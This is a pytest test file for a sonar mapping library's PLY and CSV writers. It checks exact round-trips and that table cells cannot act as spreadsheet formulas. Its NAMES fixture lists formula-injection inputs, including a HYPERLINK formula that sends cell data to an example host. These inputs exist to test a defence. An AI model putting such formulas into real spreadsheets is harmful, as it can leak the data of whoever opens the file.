"""What is written is read again: by our readers, and by Open3D as a witness; no cell of a table is a formula."""

import csv
import json
import random
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest

from sonarmap.spectral.scan import Scan
from sonarmap.tools.files.readers.csv_table import plain_text, read_csv_table
from sonarmap.tools.files.readers.navigation.log import named_scan
from sonarmap.tools.files.readers.scans import read_scan
from sonarmap.tools.files.writers.points import write_ply
from sonarmap.tools.files.writers.tables import write_table, write_template
from tests.samples.places import ROOT
from tests.samples.refusals import refuses


def cloud(count: int, seed: int = 0) -> tuple[np.ndarray, dict[str, np.ndarray]]:
    rng = np.random.default_rng(seed)
    points = rng.normal([5.0, -3.0, 1.0], [4.0, 2.0, 0.5], (count, 3)).astype(np.float32)
    columns = {
        "intensity": rng.exponential(80.0, count).astype(np.float32),
        "scan": rng.integers(0, 40, count).astype(np.int32),
        "count": rng.integers(0, 200, count).astype(np.uint8),
    }
    return points, columns


@pytest.mark.parametrize("count", [1, 1000])
def test_points_and_strength_of_a_ply_are_read_back_exactly(tmp_path, count):
    points, columns = cloud(count)
    path = tmp_path / "new" / "map.ply"
    write_ply(path, points, columns)
    assert list(path.parent.iterdir()) == [path]
    scan = read_scan(path)
    np.testing.assert_array_equal(scan.points, points)
    assert scan.strength is not None
    np.testing.assert_array_equal(scan.strength, columns["intensity"])
    write_ply(path, points)
    bare = read_scan(path)
    np.testing.assert_array_equal(bare.points, points)
    assert bare.strength is None


def test_open3d_reads_points_and_every_column(tmp_path):
    o3d = pytest.importorskip("open3d")
    points, columns = cloud(300)
    path = tmp_path / "map.ply"
    write_ply(path, points, columns)
    read = o3d.t.io.read_point_cloud(str(path)).point
    np.testing.assert_array_equal(read["positions"].numpy(), points)
    for name, column in columns.items():
        np.testing.assert_array_equal(read[name].numpy()[:, 0], column)


@pytest.mark.parametrize(
    ("columns", "said"),
    [
        ({"x": np.zeros(5)}, "'x'"),
        ({"two words": np.zeros(5)}, "two words"),
        ({"line\nbreak": np.zeros(5)}, "called"),
        ({"short": np.zeros(4)}, r"\(4,\)"),
        ({"table": np.zeros((5, 1))}, r"\(5, 1\)"),
        ({"text": np.array(list("abcde"))}, "numbers"),
    ],
)
def test_columns_that_no_header_can_hold_are_refused(tmp_path, columns, said):
    refuses(said, write_ply, tmp_path / "map.ply", cloud(5)[0], columns)
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_keeps_the_earlier_file(tmp_path, monkeypatch):
    path = tmp_path / "map.ply"
    write_ply(path, cloud(5)[0])
    before = path.read_bytes()

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    refuses("No space left", write_ply, path, cloud(50)[0])
    assert path.read_bytes() == before
    assert len(list(tmp_path.iterdir())) == 1


NAMES = (
    '=HYPERLINK("http://example.org/?"&A1;"open")',
    *("=1+1", "+SUM(A1)", "-2+3", "@x", "\t=1", "\r=2", "'=3", "''+4x", "'a", "\uff1d5"),
    *("x;=6", "x\t=7", "x,=8", 'x"=9', "#10", " 11 ", "two\nlines", "lone\udce9", "-12", "+1e3", "-1_3", "plain"),
)


def drawn(count: int) -> list[str]:
    """Texts of what matters, in any order."""
    rng = random.Random(5)
    return ["".join(rng.choices("=+-@'\t\r\n ;,\"#1a_\udce9\uff0b", k=rng.randint(0, 6))) for _ in range(count)]


def test_no_cell_is_a_formula_and_texts_are_read_back(tmp_path: Path) -> None:
    """Neither where cells end at commas nor where they end at semicolons or tabs too."""
    texts = [*NAMES, *drawn(3000)]
    write_table(tmp_path / "a.csv", ["name", "n"], ([text, 1] for text in texts))
    written = (tmp_path / "a.csv").read_text(encoding="utf-8")
    for separator in ",;\t":
        for row in csv.reader(written.splitlines(), delimiter=separator):
            for cell in row if separator == "," else row[:1]:
                assert cell[:1] not in tuple("=+-@\t\r") or np.isfinite(float(cell.split(",")[0])), row
    assert [row.cells[0] for row in read_csv_table(tmp_path / "a.csv").rows] == [plain_text(text) for text in texts]


def test_names_in_a_template_are_matched_to_their_scans(tmp_path: Path) -> None:
    scans = [Scan(np.ones((1, 3), np.float32), stamp=float(k), name=name) for k, name in enumerate(NAMES)]
    write_template(tmp_path / "a.csv", NAMES, [scan.stamp for scan in scans])
    rows = read_csv_table(tmp_path / "a.csv").rows
    assert [named_scan(scans, row.cells[0], "a row") for row in rows] == list(range(len(NAMES)))


def test_the_report_writes_the_same_csv_as_python(tmp_path: Path) -> None:
    if (node := shutil.which("node")) is None:
        pytest.skip("no Node.js is installed: apt-get install nodejs")
    texts = [text.encode("utf-8", "backslashreplace").decode() for text in (*NAMES, *drawn(1000))]
    write_table(tmp_path / "a.csv", ["name", "n"], ([text, -0.5] for text in texts))
    script = (ROOT / "tools/products/report/web/ties.js").read_text(encoding="utf-8")
    rows = [{"name": text, "n": -0.5} for text in texts]
    script += f"\nprocess.stdout.write(csvOf('a,=1;=2', ['name', 'n'], {json.dumps(rows)}));\n"
    (tmp_path / "a.js").write_text(script, encoding="utf-8")
    said = subprocess.run([node, str(tmp_path / "a.js")], capture_output=True, check=True).stdout.decode()
    comment, rest = said.split("\n", 1)
    assert comment == "# a =1 =2"
    assert rest == (tmp_path / "a.csv").read_text(encoding="utf-8")


def test_columns_are_stored_in_types_of_the_format(tmp_path):
    points, _ = cloud(3)
    columns = {
        "wide": np.array([1, -2, 3], np.int64),
        "huge": np.array([1, 2, 1 << 40], np.int64),
        "flag": np.array([True, False, True]),
        "half": np.array([1.5, 2.5, -3.5], np.float16),
        "big": np.array([1.25, 2.0, 3.0], ">f8"),
        "seen": np.array([7, 8, 65535], ">u2"),
    }
    write_ply(tmp_path / "map.ply", points.astype(np.float64), columns)
    kinds = ("<f8", "<f8", "<f8", "<i4", "<f8", "u1", "<f4", "<f8", "<u2")
    packed = np.dtype(list(zip(("x", "y", "z", *columns), kinds, strict=True)))
    body = (tmp_path / "map.ply").read_bytes()[-3 * packed.itemsize :]
    records = np.frombuffer(body, packed)
    np.testing.assert_array_equal(records["y"], points[:, 1].astype(np.float64))
    for name, column in columns.items():
        np.testing.assert_array_equal(records[name], column)
